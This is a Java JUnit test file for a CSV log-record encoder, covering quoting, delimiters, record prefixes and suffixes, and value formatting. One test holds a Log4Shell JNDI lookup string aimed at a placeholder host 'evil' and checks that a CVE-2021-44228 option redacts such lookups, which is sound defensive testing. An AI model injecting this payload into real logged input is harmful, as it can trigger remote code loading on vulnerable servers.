package dev.sluice.encode;

import dev.sluice.schemas.LogEvent;
import dev.sluice.testing.TestEvents;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import static dev.sluice.testing.TestOutputOptions.options;
import static org.assertj.core.api.Assertions.assertThat;

class CsvRecordEncoderTest {

    private static final String SELECTED =
            "'output_type':'csv',"
                    + "'field_names':['timestamp','ClientRequestHost','EdgeResponseStatus']";

    /** Values that need quoting, or look like they might, with the default delimiter. */
    private static final List<String> TRICKY =
            List.of(
                    "plain",
                    "a,b",
                    "say \"hi\"",
                    "\"",
                    "\"\"",
                    "line1\nline2",
                    "cr\rlf\r\n",
                    " padded ",
                    "é € 😀",
                    "'single'",
                    ",",
                    "trailing,");

    private static String encode(String optionsJson, LogEvent event) {
        return new String(
                RecordEncoder.forOptions(options(optionsJson)).encode(event),
                StandardCharsets.UTF_8);
    }

    private static LogEvent event(long status) {
        return TestEvents.event("acme", TestEvents.T0_MICROS, status);
    }

    /** An event whose fields F0, F1, ... hold the values. */
    private static LogEvent eventWith(List<String> values) {
        LogEvent event = event(200);
        for (int i = 0; i < values.size(); i++) {
            event.getFields().put("F" + i, values.get(i));
        }
        return event;
    }

    /** The {@code field_names} option selecting F0 to F(count - 1), in order. */
    private static String fieldNames(int count) {
        List<String> names = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            names.add("'F" + i + "'");
        }
        return "'field_names':[" + String.join(",", names) + "]";
    }

    private static List<String> readBack(String csv, String delimiter) throws IOException {
        CSVFormat format = CSVFormat.RFC4180.builder().setDelimiter(delimiter).build();
        List<CSVRecord> records = format.parse(new StringReader(csv)).getRecords();
        assertThat(records).hasSize(1);
        return records.get(0).toList();
    }

    @Test
    void writesValuesOnlyWithLogpushDefaults() {
        assertThat(encode("{" + SELECTED + "}", event(503)))
                .isEqualTo("1731579300000000000,acme.example.com,503\n");
    }

    @Test
    void writesNullAndMissingFieldsAsEmpty() {
        LogEvent event = event(200);
        event.getFields().put("Nothing", null);

        assertThat(
                        encode(
                                "{'output_type':'csv','field_names':"
                                        + "['Nothing','Missing','EdgeResponseStatus']}",
                                event))
                .isEqualTo(",,200\n");
    }

    @Test
    void writesNumbersBooleansAndTimestampsAsText() {
        LogEvent event = event(-42);
        event.getFields().put("Min", Long.MIN_VALUE);
        event.getFields().put("Zero", 0L);
        event.getFields().put("Ratio", 0.5);
        event.getFields().put("Cached", true);
        String json =
                "{'output_type':'csv','timestamp_format':'rfc3339',"
                        + "'field_names':['EdgeResponseStatus','Min','Zero','Ratio','Cached',"
                        + "'timestamp']}";

        assertThat(encode(json, event))
                .isEqualTo("-42,-9223372036854775808,0,0.5,true,2024-11-14T10:15:00Z\n");
    }

    @Test
    void usesACustomRecordPrefix() {
        assertThat(encode("{" + SELECTED + ",'record_prefix':'acme: '}", event(200)))
                .isEqualTo("acme: 1731579300000000000,acme.example.com,200\n");
    }

    @Test
    void usesACustomRecordSuffix() {
        assertThat(encode("{" + SELECTED + ",'record_suffix':'\\r\\n'}", event(200)))
                .isEqualTo("1731579300000000000,acme.example.com,200\r\n");
    }

    @Test
    void usesACustomFieldDelimiter() {
        assertThat(encode("{" + SELECTED + ",'field_delimiter':'\\t'}", event(200)))
                .isEqualTo("1731579300000000000\tacme.example.com\t200\n");
        assertThat(encode("{" + SELECTED + ",'field_delimiter':' | '}", event(200)))
                .isEqualTo("1731579300000000000 | acme.example.com | 200\n");
    }

    @Test
    void takesAnExplicitEmptyStringAsAValue() {
        String json = "{" + SELECTED + ",'record_suffix':'','field_delimiter':''}";

        assertThat(encode(json, event(200))).isEqualTo("1731579300000000000acme.example.com200");
    }

    @Test
    void quotesOnlyWhatNeedsQuotingAndDoublesQuotes() {
        LogEvent event = eventWith(List.of("a,b", "say \"hi\"", "x\ny", "plain", ""));

        assertThat(encode("{'output_type':'csv'," + fieldNames(5) + "}", event))
                .isEqualTo("\"a,b\",\"say \"\"hi\"\"\",\"x\ny\",plain,\n");
    }

    @Test
    void quotingEdgeCasesReadBackWithACsvParser() throws IOException {
        String csv =
                encode(
                        "{'output_type':'csv'," + fieldNames(TRICKY.size()) + "}",
                        eventWith(TRICKY));

        assertThat(readBack(csv, ",")).containsExactlyElementsOf(TRICKY);
    }

    @Test
    void quotesValuesHoldingACustomDelimiter() throws IOException {
        List<String> values = List.of("a;b", "a|b", "a||b", "|", "x\"y");
        for (String delimiter : List.of(";", "|", "||", "\t")) {
            String json =
                    "{'output_type':'csv','field_delimiter':'"
                            + delimiter.replace("\t", "\\t")
                            + "',"
                            + fieldNames(values.size())
                            + "}";

            String csv = encode(json, eventWith(values));

            assertThat(readBack(csv, delimiter)).as(delimiter).containsExactlyElementsOf(values);
        }
    }

    @Test
    void quotesNumbersAndTimestampsWhenTheDelimiterCanOccurInThem() throws IOException {
        LogEvent event = event(-7);
        event.getFields().put("Digits", 1024L);
        String json =
                "{'output_type':'csv','timestamp_format':'rfc3339','field_delimiter':'-',"
                        + "'field_names':['EdgeResponseStatus','timestamp','Digits']}";

        String csv = encode(json, event);

        assertThat(csv).isEqualTo("\"-7\"-\"2024-11-14T10:15:00Z\"-1024\n");
        assertThat(readBack(csv, "-")).containsExactly("-7", "2024-11-14T10:15:00Z", "1024");
        String zeroDelimiter =
                "{'output_type':'csv','field_delimiter':'0','field_names':['Digits']}";
        assertThat(encode(zeroDelimiter, event)).isEqualTo("\"1024\"\n");
    }

    @Test
    void redactsLookupsInStringValuesWhenAskedTo() throws IOException {
        List<String> values = List.of("${jndi:ldap://evil/a}", "a,${b}", "$${c}", "no lookup");
        String names = fieldNames(values.size());

        String redacted =
                encode(
                        "{'output_type':'csv','CVE-2021-44228':true," + names + "}",
                        eventWith(values));
        String verbatim = encode("{'output_type':'csv'," + names + "}", eventWith(values));

        assertThat(redacted).doesNotContain("${");
        assertThat(readBack(redacted, ","))
                .containsExactly("x{jndi:ldap://evil/a}", "a,x{b}", "$x{c}", "no lookup");
        assertThat(readBack(verbatim, ",")).containsExactlyElementsOf(values);
    }

    @Test
    void reusesItsBuffersAcrossRecords() {
        RecordEncoder encoder =
                RecordEncoder.forOptions(options("{'output_type':'csv'," + fieldNames(1) + "}"));
        char[] large = new char[5000];
        Arrays.fill(large, 'é');

        byte[] first = encoder.encode(eventWith(List.of(new String(large))));
        byte[] second = encoder.encode(eventWith(List.of("short")));

        assertThat(first).hasSize(2 * 5000 + 1);
        assertThat(new String(second, StandardCharsets.UTF_8)).isEqualTo("short\n");
    }
}
